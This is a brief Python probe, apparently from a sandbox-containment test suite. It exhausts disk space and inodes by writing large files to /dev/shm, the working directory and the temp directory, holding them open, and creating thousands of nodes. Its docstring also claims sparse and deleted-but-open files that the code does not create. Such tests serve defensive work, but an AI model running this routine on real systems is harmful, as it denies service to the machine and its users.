"""Fills the disk: large files, many files, sparse and deleted ones that stay open.

gain: starve
succeeds without: jail
"""

# %%
import os
import tempfile

folders = ("/dev/shm", ".", tempfile.gettempdir())
block = b"x" * 2**20
held = []
for folder in folders:
    for number in range(9):
        try:
            file = open(f"{folder}/{HOST['name']}-{number}", "wb")
            held.append(file)
            for _ in range(24):
                file.write(block)
            file.flush()
        except OSError:
            pass
for number in range(20000):
    if attempt(os.mknod, f"node{number}") is None and number > 15000:
        break
